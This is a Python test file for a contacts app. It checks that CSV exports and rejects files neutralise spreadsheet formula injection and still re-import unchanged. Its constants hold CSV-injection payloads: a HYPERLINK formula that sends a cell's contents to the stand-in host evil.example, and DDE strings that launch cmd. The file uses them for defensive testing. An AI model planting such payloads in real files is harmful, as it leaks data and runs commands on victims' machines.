"""Exports and rejects files are formula-safe (OWASP CSV injection) and import back unchanged."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sqlalchemy import select

from contacts.export import ExportFilter, export_to_file
from contacts.forget import Person
from contacts.import_files import ImportFiles
from nurture.app import NurtureApp
from storage.db import transaction
from storage.models import Contact

LINK = '=HYPERLINK("https://evil.example/?"&C2,"Your results")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SIMPLE = "=1+1"
RUNS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _would_run(cell: str) -> bool:
    """A cell a spreadsheet would evaluate, other than a plain number (which evaluates to
    itself: +13105550101, -2)."""
    plain_number = cell.lstrip("+-").replace(".", "", 1).isdecimal() and cell.isascii()
    return cell.startswith(RUNS) and not plain_number


def _names(app: NurtureApp) -> set[tuple[str, str]]:
    with transaction(app.sessions, immediate=False) as session:
        return {
            (first, last)
            for first, last in session.execute(select(Contact.first_name, Contact.last_name))
        }


def test_the_export_escapes_formulas_and_imports_back_unchanged(
    nurture_app: NurtureApp,
    write_csv: Callable[..., Path],
    run_import: Callable[..., Any],
    snapshot: Callable[[], dict[str, Any]],
    tmp_path: Path,
) -> None:
    rows = [
        {"first_name": LINK, "last_name": CALC, "email": "ana@example.com",
         "phone": "(310) 555-0101", "notes": SUM},
        {"first_name": SIMPLE, "last_name": "-Lopez", "email": "bea@example.com", "notes": "-"},
    ]  # fmt: skip
    run_import(write_csv(rows, header=list(rows[0])))
    assert _names(nurture_app) == {(LINK, CALC), (SIMPLE, "-Lopez")}
    before = snapshot()

    exported = tmp_path / "export.csv"
    with transaction(nurture_app.sessions, immediate=False) as session:
        export_to_file(session, exported, ExportFilter())
    cells = [cell for row in _cells(exported) for cell in row]
    assert [cell for cell in cells if _would_run(cell)] == []
    assert "'" + LINK in cells and "'" + CALC in cells and "'" + SUM in cells
    assert "'" + SIMPLE in cells and "'-" in cells
    assert "+13105550101" in cells  # a phone number is a plain number: left readable

    summary = run_import(exported)
    assert summary.rejected == 0 and summary.updated == 0
    assert snapshot() == before  # no apostrophe found its way into a name


def test_the_rejects_file_escapes_formulas_and_a_fixed_row_imports_as_written(
    nurture_app: NurtureApp, write_csv: Callable[..., Path], run_import: Callable[..., Any]
) -> None:
    rows = [
        {"first_name": LINK, "last_name": CALC, "email": "not-an-email", "notes": SUM},
        {"first_name": "Ana", "last_name": "O'Brien", "email": "also bad", "notes": "'quoted'"},
    ]
    summary = run_import(write_csv(rows, header=list(rows[0])))
    assert summary.rejected == 2 and summary.rejects_path is not None

    header, *rejected = _cells(summary.rejects_path)
    assert header == ["line", "reason", "first_name", "last_name", "email", "notes"]
    assert [cell for row in rejected for cell in row if _would_run(cell)] == []
    assert rejected[0][2:] == ["'" + LINK, "'" + CALC, "not-an-email", "'" + SUM]
    assert rejected[1][2:] == ["Ana", "O'Brien", "also bad", "'quoted'"]

    fixed = summary.rejects_path.with_name("fixed.csv")
    with fixed.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)  # as a spreadsheet saves it: the cells as they were shown
        writer.writerow(header)
        writer.writerow([*rejected[0][:4], "ana@example.com", rejected[0][5]])
        writer.writerow([*rejected[1][:4], "obrien@example.com", rejected[1][5]])
    assert run_import(fixed).inserted == 2
    assert _names(nurture_app) == {(LINK, CALC), ("Ana", "O'Brien")}
    with transaction(nurture_app.sessions, immediate=False) as session:
        notes = {c.email: c.custom_fields["notes"] for c in session.scalars(select(Contact))}
    assert notes == {"ana@example.com": SUM, "obrien@example.com": "'quoted'"}


def test_forget_rewrites_a_rejects_file_with_the_others_cells_still_escaped(
    write_csv: Callable[..., Path], run_import: Callable[..., Any]
) -> None:
    rows = [
        {"first_name": LINK, "last_name": CALC, "email": "not-an-email"},
        {"first_name": "Maria", "last_name": "Lopez", "email": "maria@"},
    ]
    summary = run_import(write_csv(rows, header=list(rows[0])))
    assert summary.rejects_path is not None
    person = Person(1, "maria@example.com", None, "Maria Lopez", frozenset())
    assert ImportFiles(summary.rejects_path.parent).forget(person) == 1
    header, *kept = _cells(summary.rejects_path)
    assert header[:2] == ["line", "reason"]
    assert [row[2:] for row in kept] == [["'" + LINK, "'" + CALC, "not-an-email"]]
